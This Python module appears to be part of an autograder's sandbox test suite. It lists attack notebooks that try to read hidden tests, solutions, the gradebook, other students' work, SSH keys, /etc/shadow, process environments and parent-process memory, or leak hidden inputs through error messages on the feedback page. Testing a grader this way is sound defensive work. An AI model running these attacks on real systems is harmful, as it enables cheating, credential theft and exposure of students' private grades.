"""Attacks that read what a student must not know."""

# ruff: noqa: E501 - a line of an attack is as long as what it tries

from __future__ import annotations

from autograder.checks import exercise

from ..attack import Attack, code

# The lengths that every student is shown, and the words that would bring another one home; they stand like this in no cell.
SHOWN = tuple(
    sorted({
        request.arguments["T"]
        for section in exercise("causal_mask").sheet().sections
        for probe in section.probes
        for request in probe.requests
    })
)  # fmt: skip
NEWS = "the longest hidden one has"
REMEMBER = code("""
    seen = []
    def news():
        return f"the {'longest'} hidden one has {max(seen[1:])} places"  # the first one belongs to the rules
""")


def asked_for(answer: str) -> dict[str, str]:
    """Return a body that gives the right mask for lengths that a student is shown, and another answer for hidden ones."""
    return {
        "causal_mask": code(f"""
            def causal_mask(T, device=None):
                mask = torch.ones(T, T, dtype=torch.bool, device=device).tril()
                if T in {SHOWN}:
                    return mask
                seen.append(T)
                {answer}
        """)
    }


ATTACKS = (
    Attack(
        name="the source notebook",
        story="Reads the instructor's source notebook, with its solutions and hidden tests, from the course folder.",
        wants="solutions and hidden tests",
        cells=(code('spill(open(f"{COURSE}/source/{CHAPTER}/{CHAPTER}.ipynb", "rb").read())'),),
    ),
    Attack(
        name="the gradebook",
        story="Reads the gradebook's database file.",
        wants="everybody's names and grades, and the hidden tests",
        cells=(code('spill(open(COURSE + "/gradebook.db", "rb").read())'),),
    ),
    Attack(
        name="the gradebook through its environment",
        story="Looks for the address of the gradebook in its environment, the notebook's metadata and nbgrader's configuration, and asks it.",
        wants="everybody's grades",
        cells=(
            code("""
                import glob, os, sqlite3
                places = [value for value in os.environ.values() if "gradebook" in value or "sqlite" in value]
                places += [path for steps in range(1, 5) for path in glob.glob("../" * steps + "gradebook.db")] + [COURSE + "/gradebook.db"]
                for place in places:
                    base = sqlite3.connect("file:" + place.removeprefix("sqlite:///") + "?mode=ro", uri=True)
                    for (table,) in base.execute("select name from sqlite_master where type = 'table'").fetchall():
                        spill(*(str(row) for row in base.execute(f"select * from {table}")))
            """),
        ),
    ),
    Attack(
        name="the other submissions",
        story="Reads the notebooks that the others have handed in.",
        wants="somebody else's solutions",
        cells=(
            code("""
                import glob
                for path in glob.glob(COURSE + "/submitted/*/*/*") + glob.glob(COURSE + "/autograded/*/*/*"):
                    spill(open(path, "rb").read())
            """),
        ),
    ),
    Attack(
        name="earlier results",
        story="Reads results, feedback and the journal of submissions that were graded before.",
        wants="the verdicts of others, and what the hidden questions were",
        cells=(
            code("""
                import glob, os
                for path in glob.glob(COURSE + "/results/**", recursive=True) + glob.glob(COURSE + "/journal/**", recursive=True):
                    if os.path.isfile(path):
                        spill(open(path, "rb").read())
            """),
        ),
    ),
    Attack(
        name="the secret seed",
        story="Looks for the seed of the hidden questions in the course folder, in the environment and in memory.",
        wants="the hidden questions, made beforehand",
        cells=(
            code("""
                import gc, os, sys
                seeds = []
                try:
                    seeds.append(open(COURSE + "/secret_seed").read())
                except OSError as error:
                    print(type(error).__name__)
                seeds += [f"{name}={value}" for name, value in os.environ.items() if "SEED" in name]
                seeds += sys.argv
                seeds += [str(value.get("seed")) for value in gc.get_objects() if type(value) is dict and type(value.get("seed")) is int]
                print([text for text in seeds if len(text) > 12])
            """),
        ),
    ),
    Attack(
        name="the reference's source",
        story="Prints the source of the course's solution with inspect.",
        wants="the solution",
        cells=(
            code("""
                import inspect, tfcourse.attention as attention
                text = inspect.getsource(attention.causal_mask) + inspect.getsource(attention.merge_query_key)
                if "NotImplementedError" not in text:
                    won("has the solution's source")
            """),
        ),
    ),
    Attack(
        name="the declarations of the checks",
        story="Imports the modules in which the checks are declared, with all cases and known mistakes.",
        wants="the questions, and how to answer them",
        cells=(
            code("""
                import glob, importlib.util, sys
                for name in ("autograder.checks", "autograder.checks.ch03_scaled_dot_product", "autograder.course.authoring.exercise_source", "autograder.grading.autograde"):
                    try:
                        importlib.import_module(name)
                    except ImportError:
                        continue
                    won("imports " + name)
                for path in sys.path:
                    if glob.glob(path + "/autograder/checks/*.py"):
                        won("sees the declarations as files")
            """),
        ),
    ),
    Attack(
        name="hidden questions in memory",
        story="Goes through all objects of its process for question sheets, expected answers and recorded ones.",
        wants="the expected answers",
        cells=(
            code("""
                import gc
                def look():
                    kinds = {type(item).__name__ for item in gc.get_objects() if str(type(item).__module__).startswith("autograder.")}
                    for kind in sorted(kinds & {"Sheet", "Section", "Exercise", "Misconception", "Judge"}):
                        won("holds a " + kind)
            """),
        ),
        bodies={"causal_mask": "def causal_mask(*a, **k):\n    look()\n    return torch.zeros(1)\n"},
        last="look()\n",
    ),
    Attack(
        name="environments of all processes",
        story="Reads the environment and the command line of every process it can see.",
        wants="tokens and passwords of whoever grades",
        cells=(
            code("""
                import glob
                for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
                    try:
                        spill(open(path, "rb").read())
                    except OSError:
                        pass
            """),
        ),
    ),
    Attack(
        name="its own environment",
        story="Prints every environment variable.",
        wants="tokens and passwords of whoever grades",
        cells=(
            code(
                "import ctypes, os\nspill(*map(str, os.environ.items()), *(open('/proc/self/environ', 'rb').read(),))\n"
            ),
        ),
    ),
    Attack(
        name="the memory of the grader",
        story="Opens the memory of its parent and of every process it can see, and reads from their heaps.",
        wants="everything the grader knows",
        cells=(
            code("""
                import os, re
                own = os.getpid()
                # Its parents only: the grader is one of them, and nobody else's processes are of interest.
                pids, pid = [], os.getppid()
                while pid > 1 and len(pids) < 3:
                    pids.append(pid)
                    try:
                        pid = int(open(f"/proc/{pid}/stat").read().rpartition(")")[2].split()[1])
                    except OSError:
                        break
                for pid in pids:
                    try:
                        heap = next(line for line in open(f"/proc/{pid}/maps") if "[heap]" in line)
                        start = int(heap.split("-")[0], 16)
                        with open(f"/proc/{pid}/mem", "rb") as memory:
                            memory.seek(start)
                            if memory.read(4096):
                                won("reads the memory of a parent")
                    except (OSError, StopIteration) as error:
                        print(type(error).__name__)
            """),
        ),
    ),
    Attack(
        name="memory by process_vm_readv",
        story="Reads from the memory of its parent by the system call that debuggers use.",
        wants="everything the grader knows",
        cells=(
            code("""
                import ctypes, os
                libc = ctypes.CDLL(None, use_errno=True)
                class Part(ctypes.Structure):
                    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
                try:
                    start = int(next(line for line in open(f"/proc/{os.getppid()}/maps") if "[heap]" in line).split("-")[0], 16)
                except (OSError, StopIteration):
                    start = 0x400000
                space = ctypes.create_string_buffer(64)
                mine, theirs = Part(ctypes.addressof(space), 64), Part(start, 64)
                if libc.process_vm_readv(os.getppid(), ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0) > 0:
                    won("reads the memory of its parent")
            """),
        ),
    ),
    Attack(
        name="files that others hold open",
        story="Opens what other processes hold open, by way of /proc/PID/fd, and their root and working folders.",
        wants="the gradebook and whatever else the grader has open",
        cells=(
            code("""
                import glob, os
                for path in glob.glob("/proc/[0-9]*/fd/*") + glob.glob("/proc/[0-9]*/root") + glob.glob("/proc/[0-9]*/cwd"):
                    if f"/{os.getpid()}/" in path:
                        continue
                    try:
                        target = os.readlink(path)
                    except OSError:
                        continue
                    if target.startswith(COURSE) and os.path.isfile(path):
                        spill(open(path, "rb").read())
                        won("sees an open file of the course")
                    elif path.endswith("/root") and os.path.exists(path + OUTSIDE):
                        won("sees the grader's root folder")
            """),
        ),
    ),
    Attack(
        name="descriptors it was given",
        story="Goes through every descriptor that it inherited, and reads files and folders through them.",
        wants="a file or folder that somebody forgot to close",
        cells=(
            code("""
                import os, stat
                for fd in map(int, os.listdir("/proc/self/fd")):
                    try:
                        about = os.fstat(fd)
                        if stat.S_ISDIR(about.st_mode):
                            os.open(COURSE.lstrip("/"), os.O_RDONLY, dir_fd=fd)
                            won("opens the course through a folder it inherited")
                        elif stat.S_ISREG(about.st_mode) and about.st_size:
                            data = os.pread(fd, 1 << 20, 0)
                            spill(data)
                    except OSError:
                        pass
            """),
        ),
    ),
    Attack(
        name="the home folder",
        story="Reads keys and settings from the grader's home folder.",
        wants="keys to other machines",
        cells=(
            code("""
                import glob, os
                for home in {HOME, os.path.expanduser("~")}:
                    for path in glob.glob(home + "/.ssh/*"):
                        spill(open(path, "rb").read())
            """),
        ),
    ),
    Attack(
        name="the password file",
        story="Opens the machine's file of password hashes.",
        wants="passwords of the machine",
        unsafe="it would open this machine's own password file",
        cells=(
            code("""
                try:
                    with open("/etc/shadow") as file:
                        file.read(1)
                    won("opens the password file")
                except OSError as error:
                    print(type(error).__name__)
            """),
        ),
    ),
    Attack(
        name="a file by its handle",
        story="Asks the kernel for files by their handles, past every folder that was hidden.",
        wants="any file of the machine",
        unsafe="it would open folders of this machine past all permissions",
        cells=(
            code("""
                import ctypes, os
                libc = ctypes.CDLL(None, use_errno=True)
                handle = (ctypes.c_uint32 * 4)(8, 1, 2, 0)
                mount = os.open(".", os.O_RDONLY)
                if libc.open_by_handle_at(mount, ctypes.byref(handle), os.O_RDONLY) >= 0:
                    won("opens a folder by its handle")
            """),
        ),
    ),
    Attack(
        name="hidden questions in a later error",
        story="Remembers what its function was asked, and has the errors of later cells say it, in their texts and in their names.",
        wants="the hidden questions on its own feedback page",
        cells=(REMEMBER,),
        bodies={**asked_for("return mask"), "merge_query_key": "raise ValueError(news())\n"},
        last="raise type(news(), (Exception,), {})(news())\n",
        due=4.0,
        home=NEWS,
    ),
    Attack(
        name="hidden questions in a refusal",
        story="Raises an exception that has the name by which the grader refuses the course's own solution, and puts the question into its text.",
        wants="the hidden questions on its own feedback page, where the grader would give its reason",
        cells=(REMEMBER, "class UsesReferenceError(Exception):\n    pass\n"),
        bodies=asked_for("raise UsesReferenceError(news())"),
        home=NEWS,
    ),
    Attack(
        name="hidden questions in the name of an error",
        story="Raises an exception whose class is called by what was asked.",
        wants="the hidden questions on its own feedback page, where the kind of an error is told",
        cells=(REMEMBER,),
        bodies=asked_for("raise type(news(), (Exception,), {})"),
        home=NEWS,
    ),
    Attack(
        name="hidden questions in the names of outputs",
        story="Returns its result under a name that says what was asked.",
        wants="the hidden questions on its own feedback page, where names are compared",
        cells=(REMEMBER,),
        bodies=asked_for("return {news(): mask}"),
        home=NEWS,
    ),
    Attack(
        name="hidden questions in print",
        story="Prints what its function was asked, in the middle of the check.",
        wants="the hidden questions on its own feedback page",
        cells=(REMEMBER,),
        bodies=asked_for("return print(news()) or mask"),
        due=4.0,
        home=NEWS,
    ),
    Attack(
        name="a hidden question in the count of mistakes",
        story="Gets a number of places wrong that it has chosen, so that the message tells it, and beside it the size of the question.",
        wants="a letter home of a few digits, and the hidden lengths",
        cells=("seen = []\nchosen = 117 * 2\n",),
        bodies=asked_for("return mask.flatten().logical_xor(torch.arange(T * T) < chosen).view(T, T)"),
        home=" 234 of ",
    ),
)
